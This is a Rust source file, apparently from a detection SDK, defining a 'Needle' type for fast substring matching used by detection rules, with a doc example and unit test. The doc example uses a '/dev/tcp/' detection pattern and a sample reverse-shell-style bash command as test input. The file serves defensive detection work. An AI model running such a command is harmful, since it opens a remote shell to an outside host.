//! Looking for a text in many others.

use std::sync::OnceLock;

use memchr::memmem::Finder;

/// A text that a rule looks for in event after event. It is made ready when it is looked for first, and
/// compares many bytes at a time, which `str::contains` does not do in a component.
///
/// ```
/// use daemoneye_sdk::rule::Needle;
///
/// static DEV_TCP: Needle = Needle::new("/dev/tcp/");
///
/// assert!(DEV_TCP.is_in("bash -c exec 3<>/dev/tcp/192.0.2.7/443"));
/// assert!(!DEV_TCP.is_in("ls /dev"));
/// ```
#[derive(Debug)]
pub struct Needle {
    text: &'static str,
    finder: OnceLock<Finder<'static>>,
}

impl Needle {
    /// Of this text, which counts byte for byte: upper and lower case differ.
    #[must_use]
    pub const fn new(text: &'static str) -> Self {
        Needle { text, finder: OnceLock::new() }
    }

    /// The text itself.
    #[must_use]
    pub const fn text(&self) -> &'static str {
        self.text
    }

    /// Whether it occurs in another.
    #[must_use]
    pub fn is_in(&self, text: &str) -> bool {
        self.finder.get_or_init(|| Finder::new(self.text)).find(text.as_bytes()).is_some()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn it_is_in_a_text_that_contains_it_and_in_no_other() {
        let needles = ["", "a", "/dev/tcp/", "é", "aab"].map(Needle::new);
        let long = format!("{}/dev/tcp/{}", "x/dev/tc".repeat(40), "y".repeat(99));
        let texts = ["", "a", "A", "/dev/tcp", "/dev/tcp/", "caf\u{e9}", "cafe", "aaaab", &long];
        for needle in &needles {
            for text in texts {
                assert_eq!(needle.is_in(text), text.contains(needle.text()), "{needle:?} {text:?}");
            }
        }
    }
}
